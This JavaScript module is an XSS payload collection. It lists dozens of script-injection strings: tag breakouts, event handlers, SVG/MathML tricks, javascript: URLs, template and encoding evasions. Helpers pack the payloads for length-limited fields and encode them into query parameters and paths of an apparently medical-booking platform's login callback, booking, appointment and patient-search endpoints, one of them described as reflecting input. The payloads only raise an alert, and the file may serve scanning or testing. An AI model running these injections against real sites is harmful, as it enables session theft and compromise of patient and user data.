// Texts by which others' pages were made to run a script of a stranger. Each would open a dialog.

const MARK = 'alert(document.domain)';

/** Every text, short enough for the shortest field. */
export const PAYLOADS = [
  `<script>${MARK}</script>`,
  `</title><script>${MARK}</script>`,
  `</textarea><script>${MARK}</script>`,
  `--><script>${MARK}</script><!--`,
  `<scr<script>ipt>${MARK}</script>`,
  `<ScRiPt/x>${MARK}</sCrIpT>`,
  `<img src=x onerror=${MARK}>`,
  `"><img src=x onerror=${MARK}>`,
  `'><img src=x onerror='${MARK}'>`,
  `" autofocus onfocus="${MARK}" x="`,
  `' autofocus onfocus='${MARK}' x='`,
  `" onpointerenter=${MARK} style="position:fixed;inset:0" x="`,
  `<svg onload=${MARK}>`,
  `<svg><animate onbegin=${MARK} attributeName=x dur=1s>`,
  `<svg><script>${MARK}</script></svg>`,
  `<math><mtext><img src=x onerror=${MARK}></mtext></math>`,
  `<math><a xlink:href="javascript:${MARK}">x</a></math>`,
  `<details open ontoggle=${MARK}>x</details>`,
  `<body onload=${MARK}>`,
  `<video><source onerror=${MARK}></video>`,
  `<iframe srcdoc="<script>parent.${MARK}</script>"></iframe>`,
  `<iframe src="javascript:${MARK}"></iframe>`,
  `<object data="data:text/html,<script>${MARK}</script>"></object>`,
  `<input autofocus onfocus=${MARK}>`,
  `<form><button formaction="javascript:${MARK}" autofocus>x</button></form>`,
  `<style>@import 'javascript:${MARK}';</style><style onload=${MARK}></style>`,
  `<link rel=stylesheet href=x onerror=${MARK}>`,
  `<base href="https://stranger.invalid/"><meta http-equiv=refresh content="0;url=javascript:${MARK}">`,
  `<noscript><p title="</noscript><img src=x onerror=${MARK}>">`,
  `<template><img src=x onerror=${MARK}></template><img src=x onerror=${MARK}>`,
  `javascript:${MARK}`,
  `&lt;img src=x onerror=${MARK}&gt; &#60;svg onload=${MARK}&#62;`,
  `\\u003cimg src=x onerror=${MARK}\\u003e`,
  `{{constructor.constructor('${MARK}')()}} \${${MARK}} <%= ${MARK} %>`,
  `%3Cscript%3E${MARK}%3C/script%3E +ADw-script+AD4-${MARK}`,
  `＜script＞${MARK}＜/script＞ ʺ＞＜img src=x onerror=${MARK}＞`,
  `a\u2028</script><script>${MARK}</script>\u202e`,
];

/** All of them in one text, for a field without a limit. */
export const ALL = PAYLOADS.join(' ');

/** All of them in as few texts as have at most 500 characters each: no field of what people write takes more. */
export const PARTS = PAYLOADS.reduce((parts, payload) => {
  const last = parts.at(-1);
  if (last !== undefined && last.length + 1 + payload.length <= 500) parts[parts.length - 1] = `${last} ${payload}`;
  else parts.push(payload);
  return parts;
}, []);

/** The same as addresses of pages that may say something back; of the first it is known that it does. */
export function addresses({ platform, xis }, payload) {
  const text = encodeURIComponent(payload);
  return [
    `${platform}/practices/add?name=${text}&q=${text}`,
    `${platform}/login/callback?state=${text}&error=${text}&error_description=${text}`,
    `${platform}/${text}`,
    `${platform}/book/01000001/${text}`,
    `${platform}/appointments/${text}`,
    `${platform}/invitations/${text}`,
    `${xis}/01000001/${text}`,
    `${xis}/logged-out?to=${text}`,
    `${xis}/01000001/appointments/new?search=${text}&patient=${text}`,
  ];
}
